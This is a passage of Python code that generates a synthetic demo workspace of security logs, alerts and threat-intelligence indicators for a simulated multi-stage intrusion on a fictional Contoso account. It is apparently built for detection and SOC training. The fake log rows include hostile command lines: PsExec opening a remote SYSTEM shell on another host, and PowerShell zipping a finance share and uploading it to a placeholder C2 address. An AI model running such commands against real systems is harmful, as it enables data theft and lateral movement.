        "AccountUpn": VICTIM,
        "ActionType": "ProcessCreated",
        "TenantId": TENANT,
        "Type": "DeviceProcessEvents",
        "InitiatingProcessAccountName": "adele.vance",
    }
    rows["DeviceProcessEvents"] += [
        {
            **proc,
            "TimeGenerated": _ts(t["powershell"]),
            "DeviceName": host_fqdn,
            "DeviceId": _device_id(VICTIM_HOST),
            "FileName": "powershell.exe",
            "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "ProcessCommandLine": ps_cmd,
            "ProcessId": 7712,
            "InitiatingProcessFileName": "OUTLOOK.EXE",
            "InitiatingProcessCommandLine": '"OUTLOOK.EXE" /recycle',
            "ReportId": 900001,
        },
        {
            **proc,
            "TimeGenerated": _ts(t["lateral"] - timedelta(seconds=20)),
            "DeviceName": host_fqdn,
            "DeviceId": _device_id(VICTIM_HOST),
            "FileName": "PsExec64.exe",
            "FolderPath": r"C:\Users\adele.vance\AppData\Local\Temp\PsExec64.exe",
            "ProcessCommandLine": rf"PsExec64.exe \\{LATERAL_HOST} -accepteula -s cmd.exe",
            "ProcessId": 8120,
            "InitiatingProcessFileName": "powershell.exe",
            "InitiatingProcessCommandLine": ps_cmd,
            "ReportId": 900002,
        },
        {
            **proc,
            "TimeGenerated": _ts(t["lateral"] + timedelta(seconds=3)),
            "DeviceName": srv_fqdn,
            "DeviceId": _device_id(LATERAL_HOST),
            "FileName": "cmd.exe",
            "FolderPath": r"C:\Windows\System32\cmd.exe",
            "ProcessCommandLine": "cmd.exe",
            "ProcessId": 4404,
            "InitiatingProcessFileName": "PSEXESVC.exe",
            "InitiatingProcessCommandLine": r"C:\Windows\PSEXESVC.exe",
            "ReportId": 900003,
        },
        {
            **proc,
            "TimeGenerated": _ts(t["exfiltration"] - timedelta(minutes=2)),
            "DeviceName": srv_fqdn,
            "DeviceId": _device_id(LATERAL_HOST),
            "FileName": "powershell.exe",
            "FolderPath": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "ProcessCommandLine": r"powershell.exe Compress-Archive -Path D:\Shares\Finance "
            r"-DestinationPath C:\ProgramData\f.zip; "
            rf"Invoke-WebRequest -Uri https://{C2_IP}/u -Method Put -InFile C:\ProgramData\f.zip",
            "ProcessId": 5120,
            "InitiatingProcessFileName": "cmd.exe",
            "InitiatingProcessCommandLine": "cmd.exe",
            "ReportId": 900004,
        },
    ]
    sec = {
        "EventSourceName": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security",
        "TenantId": TENANT,
        "Type": "SecurityEvent",
        "Account": "CONTOSO\\adele.vance",
        "AccountType": "User",
        "TargetUserName": "adele.vance",
        "TargetDomainName": "CONTOSO",
    }
    rows["SecurityEvent"] += [
        {
            **sec,
            "TimeGenerated": _ts(t["powershell"]),
            "Computer": host_fqdn,
            "EventID": 4688,
            "Activity": "4688 - A new process has been created.",
            "SubjectUserName": "adele.vance",
            "NewProcessName": r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "CommandLine": ps_cmd,
            "ParentProcessName": r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
            "Process": "powershell.exe",
        },
        {
            **sec,
            "TimeGenerated": _ts(t["lateral"]),
            "Computer": srv_fqdn,
            "EventID": 4624,
            "Activity": "4624 - An account was successfully logged on.",
            "LogonType": 3,
            "IpAddress": org.host_ip[VICTIM_HOST],
            "WorkstationName": VICTIM_HOST,
        },
        {
            **sec,
            "TimeGenerated": _ts(t["lateral"] + timedelta(seconds=1)),
            "Computer": srv_fqdn,
            "EventID": 4672,
            "Activity": "4672 - Special privileges assigned to new logon.",
        },
    ]
    rows["DeviceLogonEvents"].append(
        {
            "TimeGenerated": _ts(t["lateral"]),
            "DeviceName": srv_fqdn,
            "DeviceId": _device_id(LATERAL_HOST),
            "AccountName": "adele.vance",
            "AccountDomain": "contoso",
            "ActionType": "LogonSuccess",
            "LogonType": "Network",
            "Protocol": "NTLM",
            "RemoteIP": org.host_ip[VICTIM_HOST],
            "RemoteDeviceName": VICTIM_HOST.lower(),
            "IsLocalAdmin": True,
            "ReportId": 900010,
            "TenantId": TENANT,
            "Type": "DeviceLogonEvents",
        }
    )
    rows["DeviceNetworkEvents"].append(
        {
            "TimeGenerated": _ts(t["exfiltration"]),
            "DeviceName": srv_fqdn,
            "DeviceId": _device_id(LATERAL_HOST),
            "ActionType": "ConnectionSuccess",
            "RemoteIP": C2_IP,
            "RemotePort": 443,
            "RemoteUrl": "",
            "RemoteIPType": "Public",
            "LocalIP": org.host_ip[LATERAL_HOST],
            "LocalPort": 50211,
            "Protocol": "Tcp",
            "InitiatingProcessFileName": "powershell.exe",
            "InitiatingProcessAccountName": "adele.vance",
            "InitiatingProcessCommandLine": "powershell.exe Invoke-WebRequest",
            "ReportId": 900020,
            "TenantId": TENANT,
            "Type": "DeviceNetworkEvents",
        }
    )
    rows["CommonSecurityLog"].append(
        {
            "TimeGenerated": _ts(t["exfiltration"] + timedelta(minutes=6)),
            "DeviceVendor": "Palo Alto Networks",
            "DeviceProduct": "PAN-OS",
            "Activity": "TRAFFIC",
            "DeviceAction": "allow",
            "SourceIP": org.host_ip[LATERAL_HOST],
            "DestinationIP": C2_IP,
            "DestinationPort": 443,
            "Protocol": "TCP",
            "SentBytes": 871_234_560,
            "ReceivedBytes": 48_211,
            "TenantId": TENANT,
            "Type": "CommonSecurityLog",
        }
    )
    alerts = [
        (
            "spray",
            "Password spray",
            "Azure Active Directory Identity Protection",
            "IPC",
            "Medium",
            "CredentialAccess",
            "T1110",
            VICTIM,
            SPRAY_IPS[0],
        ),
        (
            "inbox_rule",
            "Suspicious inbox forwarding rule",
            "Microsoft Defender for Office 365",
            "OATP",
            "Medium",
            "Exfiltration",
            "T1114",
            VICTIM,
            FOREIGN_IP,
        ),
        (
            "powershell",
            "Suspicious PowerShell command line",
            "Microsoft Defender for Endpoint",
            "MDATP",
            "High",
            "Execution",
            "T1059",
            host_fqdn,
            None,
        ),
        (
            "lateral",
            "Possible lateral movement using PsExec",
            "Microsoft Defender for Endpoint",
            "MDATP",
            "High",
            "LateralMovement",
            "T1570",
            srv_fqdn,
            None,
        ),
        (
            "exfiltration",
            "Connection to a malicious IP address",
            "Microsoft Defender for Endpoint",
            "MDATP",
            "High",
            "Exfiltration",
            "T1041",
            srv_fqdn,
            C2_IP,
        ),
    ]
    alert_ids = []
    for i, (
        stage,
        name,
        product,
        provider,
        severity,
        tactic,
        technique,
        entity,
        address,
    ) in enumerate(alerts):
        alert_id = str(uuid.UUID(int=0xA1E47 << 64 | i))
        alert_ids.append(alert_id)
        entities = [{"$id": "1", "Type": "account", "Name": "adele.vance", "UPNSuffix": DOMAIN}]
        if address:
            entities.append({"$id": "2", "Type": "ip", "Address": address})
        if "." in entity and "@" not in entity:
            entities.append({"$id": "3", "Type": "host", "HostName": entity.split(".")[0]})
        at = _ts(t[stage] + timedelta(minutes=1))
        rows["SecurityAlert"].append(
            {
                "TimeGenerated": at,
                "StartTime": _ts(t[stage]),
                "EndTime": at,
                "AlertName": name,
                "DisplayName": name,
                "AlertSeverity": severity,
                "ProductName": product,
                "ProviderName": provider,
                "VendorName": "Microsoft",
                "SystemAlertId": alert_id,
                "CompromisedEntity": entity,
                "Entities": json.dumps(entities),
                "Tactics": tactic,
                "Techniques": json.dumps([technique]),
                "Status": "New",
                "Description": f"{name} involving {entity}.",
                "AlertType": name.replace(" ", ""),
                "ConfidenceLevel": "High",
                "TenantId": TENANT,
                "Type": "SecurityAlert",
                "IsIncident": False,
            }
        )
    created = _ts(t["exfiltration"] + timedelta(minutes=12))
    rows["SecurityIncident"].append(
        {
            "TimeGenerated": created,
            "CreatedTime": created,
            "LastModifiedTime": created,
            "FirstActivityTime": _ts(t["spray"]),
            "LastActivityTime": _ts(t["exfiltration"]),
            "IncidentNumber": 1042,
            "IncidentName": str(uuid.UUID(int=0x1C1DE47 << 64 | 1042)),
            "Title": "Multi-stage attack involving adele.vance: credential access, exfiltration",
            "Description": "Password spray, suspicious sign-ins, mailbox forwarding, PowerShell, "
            "lateral movement and exfiltration tied to one account.",
            "Severity": "High",
            "Status": "New",
            "ProviderName": "Azure Sentinel",
            "AlertIds": json.dumps(alert_ids),
            "BookmarkIds": "[]",
            "Labels": "[]",
            "Comments": "[]",
            "Tasks": "[]",
            "Owner": json.dumps({"objectId": None, "email": None, "assignedTo": None}),
            "RelatedAnalyticRuleIds": json.dumps(["c0fe4a3b-1b7e-4a8e-9b5d-2f6d1e0a9c31"]),
            "AdditionalData": json.dumps(
                {
                    "alertsCount": len(alert_ids),
                    "bookmarksCount": 0,
                    "tactics": ["CredentialAccess", "Execution", "LateralMovement", "Exfiltration"],
                }
            ),
            "TenantId": TENANT,
            "Type": "SecurityIncident",
        }
    )
    return rows


def _threat_intel(rng: np.random.Generator, end: datetime) -> list[dict[str, Any]]:
    """Indicators: background feed entries plus the attacker's infrastructure."""
    made = _ts(end - timedelta(days=20))
    base = {
        "Active": True,
        "Action": "alert",
        "IndicatorProvider": "Contoso Threat Feed",
        "ConfidenceScore": 80.0,
        "TenantId": TENANT,
        "Type": "ThreatIntelligenceIndicator",
        "SourceSystem": "SecurityGraph",
        "TrafficLightProtocolLevel": "Amber",
    }
    rows = [
        {
            **base,
            "TimeGenerated": made,
            "NetworkIP": C2_IP,
            "ThreatType": "C2",
            "Description": "Command and control server of a financially motivated actor",
            "ExpirationDateTime": _ts(end + timedelta(days=60)),
            "IndicatorId": "TI-C2-0001",
            "ThreatSeverity": 5,
            "KillChainC2": True,
        },
        {
            **base,
            "TimeGenerated": made,
            "DomainName": "mailbox-relay.example",
            "ThreatType": "Phishing",
            "Description": "Mail relay used to collect forwarded mailboxes",
            "ExpirationDateTime": _ts(end + timedelta(days=60)),
            "IndicatorId": "TI-DOM-0002",
            "ThreatSeverity": 4,
        },
    ]
    rows += [
        {
            **base,
            "TimeGenerated": made,
            "NetworkIP": ip,
            "ThreatType": "Botnet",
            "Description": "Credential stuffing and password spray source",
            "ExpirationDateTime": _ts(end + timedelta(days=30)),
            "IndicatorId": f"TI-SPRAY-{i:04d}",
            "ThreatSeverity": 3,
            "ConfidenceScore": 60.0,
        }
        for i, ip in enumerate(SPRAY_IPS)
    ]
    for i in range(300):
        kind = i % 3
        row = {
            **base,
            "TimeGenerated": _ts(
                end - timedelta(days=int(rng.integers(0, 30)), minutes=int(rng.integers(0, 1440)))
            ),
            "ExpirationDateTime": _ts(end + timedelta(days=int(rng.integers(-10, 90)))),
            "IndicatorId": f"TI-FEED-{i:04d}",
            "ConfidenceScore": float(rng.integers(20, 100)),
            "ThreatSeverity": int(rng.integers(1, 5)),
        }
        if kind == 0:
            row.update(NetworkIP=f"192.0.2.{i % 250 + 1}", ThreatType="MaliciousUrl")
        elif kind == 1:
            row.update(DomainName=f"update-check{i}.badsite.example", ThreatType="Malware")
        else:
            row.update(FileHashValue=f"{i:064x}", FileHashType="SHA256", ThreatType="Malware")
        rows.append(row)
    return rows


#: Full country names, as KQL's geo_info_from_ip_address gives them.
COUNTRY_NAMES = {
    "US": "United States",
    "GB": "United Kingdom",
    "DE": "Germany",
    "NL": "Netherlands",
    "NG": "Nigeria",
}


def _ipv4_number(address: str) -> int:
    a, b, c, d = (int(part) for part in address.split("."))
    return ((a * 256 + b) * 256 + c) * 256 + d


def _write_geoip(path: Path) -> None:
    """The demo's IP geolocation table (the ``_geoip.csv`` a local workspace may carry).

    It places the demo's public networks where the sign-in logs say they are: each city's /16, the
    spray and C2 network (203.0.113.0/24, Amsterdam) and the attacker's network in Lagos.
    """
    networks = [
        (f"{prefix}.0.0", 16, city, state, country, lat, lon)
        for city, state, country, lat, lon, prefix in CITIES
    ]
    networks.append(("203.0.113.0", 24, "Amsterdam", "North Holland", "NL", 52.37, 4.9))
    networks.append(("198.51.100.0", 24, "Lagos", "Lagos", "NG", 6.45, 3.39))
    lines = ["first,last,network,country,state,city,latitude,longitude"]
    for address, bits, city, state, country, lat, lon in sorted(
        networks, key=lambda n: _ipv4_number(n[0])
    ):
        first = _ipv4_number(address)
        last = first + 2 ** (32 - bits) - 1
        lines.append(
            f"{first},{last},{address}/{bits},{COUNTRY_NAMES[country]},{state},{city},{lat},{lon}"
        )
    path.write_text("\n".join(lines) + "\n")


def generate(
    path: Path, *, seed: int = 7, scale: float = 1.0, end: datetime | None = None
) -> GenerationReport:
    """Writes the demo workspace at ``path``: 30 days ending at ``end`` (default: this hour).

    The data set is written to a new version folder beside ``path``, its marker last, and published
    by switching ``path`` to it in one step (``versions.py``): a reader sees the old data set or the
    new one, never a half-written one.
    """
    started = time.perf_counter()
    path = Path(path)
    if end is None:
        end = datetime.now(timezone.utc).replace(minute=0, second=0, microsecond=0)
    elif end.tzinfo is None:
        end = end.replace(tzinfo=timezone.utc)
    rng = np.random.default_rng(seed)
    org = Org.make(rng)
    attack = _attack(org, end, np.random.default_rng(seed + 1))
    staging = new_version(path, end)
    writer = DayWriter(staging)
    first_day = (end - timedelta(days=DAYS)).replace(hour=0, minute=0, second=0, microsecond=0)
    for d in range(DAYS + 1):
        day = first_day + timedelta(days=d)
        day_end = day + timedelta(days=1)
        weekday_factor = 0.35 if day.weekday() >= 5 else 1.0
        for table, make in NORMAL.items():
            n = max(1, int(DAILY[table] * scale * weekday_factor * rng.uniform(0.9, 1.1)))
            columns = make(rng, org, day, n)
            keep = columns["TimeGenerated"] < np.datetime64(_ts(end), "us")
            columns = {
                k: np.asarray(v, dtype=object)[keep] if k != "TimeGenerated" else v[keep]
                for k, v in columns.items()
            }
            extra = [r for r in attack[table] if _ts(day) <= r["TimeGenerated"] < _ts(day_end)]
            writer.write(table, day, columns, extra)
        for table in ("SecurityAlert", "SecurityIncident"):
            extra = [r for r in attack[table] if _ts(day) <= r["TimeGenerated"] < _ts(day_end)]
            if extra:
                writer.write(
                    table, day, {"TimeGenerated": np.array([], dtype="datetime64[us]")}, extra
                )
    ti = _threat_intel(rng, end)
    writer.write(
        "ThreatIntelligenceIndicator",
        first_day,
        {"TimeGenerated": np.array([], dtype="datetime64[us]")},
        ti,
    )
    _write_geoip(staging / "_geoip.csv")
    report = GenerationReport(rows=dict(sorted(writer.rows.items())), seconds=0.0)
    report.seconds = time.perf_counter() - started
    (staging / MARKER).write_text(
        json.dumps(
            {
                "version": VERSION,
                "seed": seed,
                "scale": scale,
                "end": end.isoformat(),
                "rows": report.rows,
            },
            indent=1,
        )
    )
    publish(path, staging)
    return report
